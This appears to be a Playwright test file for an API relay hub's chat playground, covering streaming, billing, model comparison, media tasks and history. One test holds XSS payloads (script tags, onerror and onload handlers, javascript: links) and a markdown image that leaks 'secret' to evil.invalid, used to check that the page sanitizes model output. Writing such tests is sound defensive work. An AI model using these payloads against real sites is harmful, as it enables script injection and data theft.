import type { Page } from '@playwright/test';
import { callsOf, expect, signIn, test } from './hub.ts';
import { choose } from './page-helpers.ts';
import { phone } from './parts.ts';

const models = ['gpt-4o', 'gpt-4o-mini', 'dall-e-3', 'tts-1', 'whisper-1', 'sora-2'];

test.beforeAll(async ({ hub, upstream }) => {
  const api = await callsOf(hub);
  const channel = { type: 8, name: 'play', key: 'sk-play', base_url: upstream.url, models: models.join() };
  expect(await (await api.post('/api/channel/', { data: channel })).json()).toMatchObject({ success: true });
  const price = { model: 'sora-2', type: 'times', channel_type: 1, input: 10, output: 10 };
  expect(await (await api.post('/api/prices/single', { data: price })).json()).toMatchObject({ success: true });
  const singers = { type: 41, name: 'singers', key: 'sk-sing', base_url: upstream.url, models: 'chirp-v3-5' };
  expect(await (await api.post('/api/channel/', { data: singers })).json()).toMatchObject({ success: true });
  await api.dispose();
});

test.beforeEach(async ({ context, hub, upstream }) => {
  upstream.behaviour = {};
  await signIn(context, hub);
});

const message = (page: Page) => page.getByRole('textbox', { name: 'Write a message' });
const answers = (page: Page) => page.getByRole('article', { name: /^Answer of / });

async function open(page: Page): Promise<void> {
  await page.goto('/panel/playground');
  await message(page).waitFor();
  await expect(page.getByRole('combobox', { name: 'Model' })).toContainText('gpt-4o-mini');
  await expect(page.getByText('128K context')).toBeVisible();
}

async function send(page: Page, text: string): Promise<void> {
  await message(page).fill(text);
  await message(page).press('Enter');
}

/** Conversations stored in the browser; none before the page has made its database. */
const storedIn = (page: Page): Promise<string> =>
  page.evaluate(
    () =>
      new Promise((resolve) => {
        const opening = indexedDB.open('relay-hub-playground');
        opening.addEventListener('upgradeneeded', () => opening.transaction?.abort());
        opening.addEventListener('error', () => resolve(''));
        opening.addEventListener('success', () => {
          const all = opening.result.transaction('conversations').objectStore('conversations').getAll();
          all.addEventListener('success', () => {
            opening.result.close();
            resolve(JSON.stringify(all.result));
          });
        });
      }),
  );

/** A change is stored a moment after the last one. */
const expectStored = (page: Page, text: string): Promise<void> =>
  expect.poll(() => storedIn(page), 'stored conversations').toContain(text);

for (const [dialect, path] of [
  ['Chat', '/v1/chat/completions'],
  ['Responses', '/v1/responses'],
  ['Messages', '/v1/messages'],
  ['Gemini', '/gemini/v1beta/models/gpt-4o-mini:streamGenerateContent?alt=sse'],
] as const)
  test(`a chat in the dialect ${dialect} streams, is charged, and its code is what was sent`, async ({
    page,
    upstream,
  }) => {
    await open(page);
    await choose(page.getByRole('radio', { name: dialect, exact: true }));
    // Not only the next reply: a first try in another dialect would take it.
    upstream.behaviour = { text: 'An **answer** with `code`.', chunkMs: 20 };
    const sending = page.waitForRequest((request) => request.url().includes('/api/playground/'));
    await send(page, "What's `up`?");
    const request = await sending;
    expect(new URL(request.url()).pathname + new URL(request.url()).search).toBe(`/api/playground${path}`);
    await expect(answers(page).locator('strong')).toHaveText('answer');
    await expect(page.locator('[data-answer=done]')).toContainText('$0.0000');

    await page.getByRole('tab', { name: 'Code' }).click();
    const code = page.getByRole('group', { name: 'Code' });
    await expect(code).toContainText(`${path}'`);
    const shown = (await code.textContent()) ?? '';
    const [, body = ''] = /--data-raw '([^]*)'$/.exec(shown) ?? [];
    expect(body.replaceAll(String.raw`'\''`, "'")).toBe(request.postData());
    expect(shown).not.toMatch(/sk-\w/);
  });

test('a stream is stopped, edited, sent again, and found in the history', async ({ page, upstream }) => {
  await open(page);
  upstream.next({ chunks: 2000, chunkMs: 20 });
  await send(page, 'a long story');
  await expect(answers(page)).toContainText('Hello');
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.locator('[data-answer=stopped]')).toContainText('Stopped');

  await page.getByRole('button', { name: 'Edit message' }).click();
  await page.getByRole('textbox', { name: 'Edit message' }).fill('a short story');
  upstream.next({ text: 'Once upon a time' });
  await page.getByRole('button', { name: 'Send again' }).click();
  await expect(answers(page)).toHaveCount(1);
  await expect(answers(page)).toContainText('Once upon a time');

  await expect(page.locator('[data-answer=done]')).toContainText('$');
  await expectStored(page, 'Once upon a time');
  await page.reload();
  await page.getByRole('button', { name: 'Conversations' }).click();
  await page.getByRole('searchbox', { name: 'Search titles and messages' }).fill('once upon');
  await page
    .getByRole('dialog')
    .getByRole('button', { name: /a long story/ })
    .first()
    .click();
  await expect(answers(page)).toContainText('Once upon a time');
});

test('two models answer side by side, each with its time, speed and cost', async ({ page, upstream }) => {
  await open(page);
  await page.getByRole('button', { name: 'Compare models' }).click();
  await expect(page.getByRole('combobox', { name: 'Model 2' })).toContainText('gpt-4o');
  for (let i = 0; i < 2; i++) upstream.next({ chunks: 40, chunkMs: 10 });
  await send(page, 'compare');
  await expect(page.locator('[data-answer=done]')).toHaveCount(2);
  for (const facts of await page.locator('[data-answer]').all())
    await expect(facts).toContainText(/\d+ in.*\d+ out.*\$0\.0.*first token \d.*tokens\/s/s);
  const [first, second] = await Promise.all((await answers(page).all()).map((each) => each.boundingBox()));
  expect(first?.y).toBe(second?.y);
  expect(second?.x).toBeGreaterThan((first?.x ?? 0) + (first?.width ?? 0) - 1);
});

test('a picture is sent, and one is made', async ({ page, upstream }) => {
  await open(page);
  const pixel = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  await page
    .getByLabel('Attach images or files')
    .last()
    .setInputFiles({ name: 'a.png', mimeType: 'image/png', buffer: pixel });
  await expect(page.getByRole('img', { name: 'a.png' })).toBeVisible();
  const sending = page.waitForRequest((request) => request.url().includes('/api/playground/'));
  await send(page, 'What is it?');
  expect((await sending).postData()).toContain(`data:image/png;base64,${pixel.toString('base64')}`);
  await expect(page.locator('[data-answer=done]')).toBeVisible();
  expect(upstream.requests.total).toBeGreaterThan(0);

  await page.getByRole('combobox', { name: 'Task' }).click();
  await page.getByRole('option', { name: 'Create images' }).click();
  await expect(page.getByRole('combobox', { name: 'Model' })).toContainText('dall-e-3');
  const prompt = page.getByRole('textbox', { name: 'Describe the image' });
  await prompt.fill('a cat');
  await prompt.press('Enter');
  await expect(page.getByRole('img', { name: 'Image 1' })).toHaveJSProperty('naturalWidth', 1);
});

test('a refused parameter can be left out, and a refused call says what to do', async ({ page, upstream }) => {
  await open(page);
  await page.getByRole('textbox', { name: 'Temperature' }).fill('0.3');
  const error = {
    message: "Unsupported parameter: 'temperature'",
    type: 'invalid_request_error',
    param: 'temperature',
  };
  upstream.next({ status: 400, error: { error } });
  await send(page, 'hello');
  const again = page.waitForRequest((request) => request.url().includes('/api/playground/'));
  await page.getByRole('button', { name: 'Retry without temperature' }).click();
  expect((await again).postData()).not.toContain('temperature');
  await expect(page.locator('[data-answer=done]')).toBeVisible();
});

const table = `| a | b |\n|---|---|\n${'| <img src=x onerror="hacked=1"> | [x](javascript:hacked=1) |\n'.repeat(20_000)}`;
const zalgo = `Z${'\u0301'.repeat(5000)} `;
/** Pieces are cut at blanks, so this one comes in one chunk. */
const endless = 'x'.repeat(1_000_000);
const hostile = [
  '<script>window.hacked=1</script><img src=x onerror="window.hacked=1"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '[link](javascript:window.hacked=1) ![leak](https://evil.invalid/?q=secret) <https://evil.invalid/x>',
  '<style>*{display:none}</style><svg onload="window.hacked=1">',
  '$$\\href{javascript:hacked=1}{x}$$',
  zalgo.repeat(20),
  endless,
  table,
].join('\n\n');

/** Parts of answers drawn since `watchDrawing`. */
interface Drawn {
  frames: number;
  /** Changes of the document, which are one a frame if chunks are collected. */
  updates: number;
  added: number;
}

const watchDrawing = (page: Page): Promise<void> =>
  page.evaluate(() => {
    const drawn = { frames: 0, updates: 0, added: 0 };
    Object.assign(globalThis, { drawn });
    const count = (): void => {
      drawn.frames++;
      requestAnimationFrame(count);
    };
    requestAnimationFrame(count);
    new MutationObserver((changes) => {
      const ofAnswers = changes.filter(({ target }) =>
        (target instanceof Element ? target : target.parentElement)?.closest('article'),
      );
      if (ofAnswers.length > 0) drawn.updates++;
      for (const { addedNodes } of ofAnswers)
        for (const node of addedNodes)
          drawn.added += 1 + (node instanceof Element ? node.querySelectorAll('*').length : 0);
    }).observe(document.body, { childList: true, characterData: true, subtree: true });
  });
const drawnSoFar = (page: Page) => page.evaluate(() => Reflect.get(globalThis, 'drawn') as Drawn);

test('a hostile answer neither runs nor loads anything nor freezes the page', async ({ page, hub, upstream }) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!/^(?:data|blob):/.test(request.url()) && !request.url().startsWith(hub.url)) foreign.push(request.url());
  });
  page.on('dialog', (dialog) => {
    foreign.push(dialog.message());
    void dialog.dismiss();
  });
  await open(page);
  await watchDrawing(page);
  upstream.next({ text: hostile });
  await send(page, 'attack');
  await expect(page.locator('[data-answer=done]')).toBeVisible({ timeout: 60_000 });
  await expect(answers(page)).toContainText('window.hacked=1');
  await message(page).fill('still here');
  await expect(message(page)).toHaveValue('still here');
  expect(await page.evaluate(() => Reflect.get(globalThis, 'hacked') as unknown)).toBeUndefined();
  expect(
    await page
      .locator('article script, article iframe, article style, article svg[onload], article a[href^=javascript]')
      .count(),
  ).toBe(0);
  expect(await page.locator('article [src*="evil"]').count()).toBe(0);
  expect(foreign).toEqual([]);
  // Of the table's 60,000 cells only few become elements.
  const { added } = await drawnSoFar(page);
  expect(added).toBeLessThan(2000);
});

test('10,000 chunks are drawn once a frame and only at their end, and no key is lost meanwhile', async ({
  page,
  upstream,
}) => {
  test.setTimeout(300_000);
  await open(page);
  await watchDrawing(page);
  const chunks = Array.from({ length: 10_000 }, (_, i) => (i % 40 === 0 ? '\n\n- **point**' : ` word${i}`));
  upstream.next({ text: chunks.join(''), chunkMs: 1 });
  await send(page, 'write a lot');
  await expect(answers(page)).toContainText('word1 ');
  let typed = '';
  const running = page.locator('[data-answer=running]');
  for (let i = 0; i < 40 && (await running.count()) > 0; i++) {
    typed += 'while it answers ';
    await message(page).pressSequentially('while it answers ');
  }
  await expect(page.locator('[data-answer=done]')).toBeVisible({ timeout: 150_000 });
  await expect(answers(page)).toContainText('word9999');
  await expect(message(page)).toHaveValue(typed);
  const { frames, updates, added } = await drawnSoFar(page);
  expect(updates, 'changes of the document').toBeLessThan(1.5 * frames);
  expect(added, 'nodes that were made').toBeLessThan(3 * (await page.locator('article *').count()));
});

test('code, tables and formulas are drawn, by parts that load with the first answer only', async ({
  page,
  upstream,
}) => {
  const heavy = () =>
    page.evaluate(() =>
      performance
        .getEntriesByType('resource')
        .map(({ name }) => /(markdown-block|highlighted-code|formula)/.exec(name)?.[1])
        .filter((name) => name !== undefined)
        .toSorted(),
    );
  await open(page);
  expect(await heavy()).toEqual([]);
  upstream.next({ text: '| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1;\n```\n\nSo $$x^2$$ is it.' });
  await send(page, 'draw');
  const answer = answers(page);
  await expect(answer.locator('td')).toHaveText(['1', '2']);
  await expect(answer.locator('pre code span').first()).toHaveText('const');
  await expect(answer.locator('math msup')).toHaveCount(1);
  expect([...new Set(await heavy())]).toEqual(['formula', 'highlighted-code', 'markdown-block']);
});

test('the public page is the same for users, and leads others to sign in', async ({ page, browser, hub, upstream }) => {
  await page.goto('/');
  await page.getByRole('link', { name: 'Playground' }).click();
  await message(page).waitFor();
  await page.setViewportSize(phone);
  upstream.next({ text: 'from the phone' });
  await send(page, 'hello');
  await expect(answers(page)).toContainText('from the phone');
  await page.getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByRole('dialog').getByRole('combobox', { name: 'Task' })).toBeVisible();

  const stranger = await browser.newPage({ baseURL: hub.url });
  await stranger.goto('/playground');
  await expect(stranger.getByRole('link', { name: 'Playground' })).toHaveCount(0);
  await expect(stranger).toHaveURL(/\/login\?redirect=%2Fplayground/);
  await stranger.close();
});

async function chooseTask(page: Page, name: string): Promise<void> {
  await page.getByRole('combobox', { name: 'Task' }).click();
  await page.getByRole('option', { name, exact: true }).click();
}

test('a video and a song are followed to their results, a failed one costs nothing', async ({ page, upstream }) => {
  await open(page);
  await chooseTask(page, 'Create videos');
  await expect(page.getByRole('combobox', { name: 'Model' })).toContainText('sora-2');
  upstream.videos.next({ steps: ['completed'] }, { steps: ['failed'] });
  const describe = page.getByRole('textbox', { name: /^Describe the video/ });
  await describe.fill('a lighthouse');
  await describe.press('Enter');
  await expect(page.getByRole('progressbar', { name: 'Progress of the task' })).toBeVisible();
  await expect(answers(page).getByLabel('Video', { exact: true })).toHaveAttribute(
    'src',
    /^\/media\/[\w-]+\/0\?.*#video$/,
  );
  await expect(page.locator('[data-answer=done]')).toContainText('$');
  expect(upstream.videos.last?.fields).toMatchObject({ model: 'sora-2', prompt: 'a lighthouse' });
  await answers(page).getByRole('link', { name: 'Open in Async tasks' }).click();
  await expect(page.getByRole('dialog', { name: 'a lighthouse' })).toBeVisible();

  await page.goto('/panel/playground'); // the chosen task is remembered
  await describe.fill('a storm');
  await describe.press('Enter');
  await expect(answers(page).getByText('Its charge was returned.')).toBeVisible();

  await chooseTask(page, 'Create music');
  upstream.tasks.next({ steps: [{ status: 'SUCCESS', progress: 100 }] });
  const song = page.getByRole('textbox', { name: 'Describe the song' });
  await song.fill('night train');
  await song.press('Enter');
  await expect(answers(page).last().locator('audio').first()).toHaveAttribute('src', /#audio$/);
});

test('text becomes speech, and a recording becomes text', async ({ page }) => {
  await open(page);
  await chooseTask(page, 'Text to speech');
  const speech = page.getByRole('textbox', { name: 'Enter the text to speak' });
  await speech.fill('Good morning');
  await speech.press('Enter');
  await expect(answers(page).getByLabel('Speech')).toHaveAttribute('src', /^data:audio\//);

  await chooseTask(page, 'Speech to text');
  const recording = { name: 'call.wav', mimeType: 'audio/wav', buffer: Buffer.from('RIFF....WAVE') };
  await page.getByLabel('Attach images or files').last().setInputFiles(recording);
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(answers(page).last()).toContainText(/\w{3}/);
  await expect(page.locator('[data-answer=done]')).toHaveCount(2);
});

test('an answer is retried by another model, branched off, exported and deleted', async ({ page, upstream }) => {
  await open(page);
  upstream.behaviour = { text: 'An answer' };
  await send(page, 'a question to keep');
  const more = answers(page).getByRole('button', { name: 'More actions' });
  await more.click();
  await page.getByRole('menuitem', { name: 'gpt-4o', exact: true }).click();
  await expect(page.getByRole('article', { name: 'Answer of gpt-4o', exact: true })).toContainText('An answer');
  await expect(page.locator('[data-answer=done]')).toContainText('$');
  await more.click();
  await page.getByRole('menuitem', { name: /new conversation/ }).click();
  await send(page, 'another turn');
  await expect(page.locator('[data-answer=done]')).toHaveCount(2);
  await expectStored(page, 'another turn');

  await page.getByRole('button', { name: 'Conversations' }).click();
  const dialog = page.getByRole('dialog', { name: 'Conversations' });
  await expect(dialog.getByRole('button', { name: 'Export a question to keep' })).toHaveCount(2);
  const downloading = page.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Export a question to keep' }).first().click();
  const file = await (await downloading).createReadStream();
  expect(Buffer.concat(await file.toArray()).toString()).toContain('another turn');
  await dialog.getByRole('button', { name: 'Delete a question to keep' }).first().click();
  await expect(dialog.getByRole('button', { name: 'Export a question to keep' })).toHaveCount(1);
});

test('the owner of a kept request opens it again from its log row', async ({ page, hub }) => {
  const api = await callsOf(hub);
  await api.put('/api/option/', { data: { key: 'ContentLog', value: 'all' } });
  await open(page);
  await send(page, 'Which request is this?');
  await expect(page.locator('[data-answer=done]')).toContainText('$0.0000');
  await api.put('/api/option/', { data: { key: 'ContentLog', value: 'none' } });
  const { data } = (await (await api.get('/api/log/self?size=1')).json()) as { data: { data: { id: number }[] } };
  await api.dispose();
  await page.goto(`/panel/log?id=${data.data[0]?.id}`);
  await page.getByRole('button', { name: 'Show request and reply' }).click();
  await page.getByRole('link', { name: 'Try the same request in the playground' }).click();
  await expect(message(page)).toHaveValue('Which request is this?');
  await expect(page).toHaveURL(/\/panel\/playground$/);
});
